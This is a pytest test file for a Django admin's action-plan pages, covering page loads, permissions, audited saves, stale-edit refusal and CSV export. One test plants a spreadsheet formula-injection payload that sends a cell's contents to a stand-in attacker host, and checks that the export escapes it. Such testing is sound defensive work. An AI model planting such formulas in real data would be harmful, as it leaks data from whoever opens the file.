import csv
import io

import pytest
from django.urls import reverse

from actionplan.models import Action
from actionplan.resources import ActionResource
from actionplan.services import STALE_EDIT
from core.models import AuditEvent

CHANGELIST = reverse("admin:actionplan_action_changelist")


def change_url(action):
    return reverse("admin:actionplan_action_change", args=[action.pk])


def change_form(action, **overrides):
    data = {
        "objective": action.objective_id,
        "title": action.title,
        "description": action.description,
        "lead_cluster": action.lead_cluster_id,
        "owner": action.owner_id or "",
        "parent": "",
        "weight": action.weight,
        "start_date": action.start_date.isoformat(),
        "due_date": action.due_date.isoformat(),
        "status": action.status,
        "progress": action.progress,
        "budget_amount": "",
        "budget_currency": action.budget_currency,
        "funding_source": "",
        "expected_version": action.version,
        "milestones-TOTAL_FORMS": 0,
        "milestones-INITIAL_FORMS": 0,
        "indicators-TOTAL_FORMS": 0,
        "indicators-INITIAL_FORMS": 0,
    }
    data.update(overrides)
    return data


def test_changelist_and_change_page_load(login, action, secretariat):
    client = login(secretariat)
    response = client.get(CHANGELIST)
    assert response.status_code == 200
    assert "Shared e-bike pilots" in response.text
    page = client.get(change_url(action))
    assert page.status_code == 200
    assert 'name="expected_version" value="1"' in page.text
    assert client.get(reverse("admin:actionplan_action_add")).status_code == 200


def test_admin_search_and_filters_load(login, action, secretariat):
    client = login(secretariat)
    assert client.get(CHANGELIST, {"q": "e-bike"}).status_code == 200
    assert client.get(CHANGELIST, {"status": "in_progress"}).status_code == 200


def test_managers_cannot_use_the_admin(login, action, manager):
    response = login(manager).get(CHANGELIST)
    assert response.status_code == 302


def test_saving_goes_through_the_service(login, action, secretariat, other_cluster):
    data = change_form(action, title="E-bikes", partners=[other_cluster.pk])
    response = login(secretariat).post(change_url(action), data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    action.refresh_from_db()
    assert (action.title, action.version) == ("E-bikes", 2)
    assert list(action.partners.all()) == [other_cluster]
    event = AuditEvent.objects.get(verb="action.edit")
    assert (event.actor, event.object_id) == (secretariat, str(action.pk))


def test_stale_version_is_refused(login, action, secretariat):
    data = change_form(action, title="Late edit")
    Action.objects.filter(pk=action.pk).update(version=2)
    response = login(secretariat).post(change_url(action), data)
    assert response.status_code == 200
    assert str(STALE_EDIT) in response.text
    action.refresh_from_db()
    assert action.title == "Shared e-bike pilots"
    assert not AuditEvent.objects.filter(verb="action.edit").exists()


@pytest.mark.parametrize("field", ["title", "lead_cluster"])
def test_missing_required_field_is_refused(login, action, secretariat, field):
    response = login(secretariat).post(change_url(action), change_form(action, **{field: ""}))
    assert response.status_code == 200
    assert response.context["adminform"].form.errors[field]
    assert not AuditEvent.objects.filter(verb="action.edit").exists()


@pytest.mark.parametrize("column", ["title", "description", "funding_source", "objective"])
def test_the_admin_export_writes_a_formula_as_text(login, action, secretariat, column):
    formula = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
    if column == "objective":
        type(action.objective).objects.filter(pk=action.objective_id).update(title=formula)
    else:
        Action.objects.filter(pk=action.pk).update(**{column: formula})
    fields = [f"actionresource_{name}" for name in ActionResource._meta.fields]

    response = login(secretariat).post(
        reverse("admin:actionplan_action_export"),
        {"resource": "0", "format": "0", **dict.fromkeys(fields, "on")},
    )

    assert response["Content-Type"].startswith("text/csv")
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row[column] == "'" + formula
    assert row["id"] == str(action.pk)  # numbers stay numbers
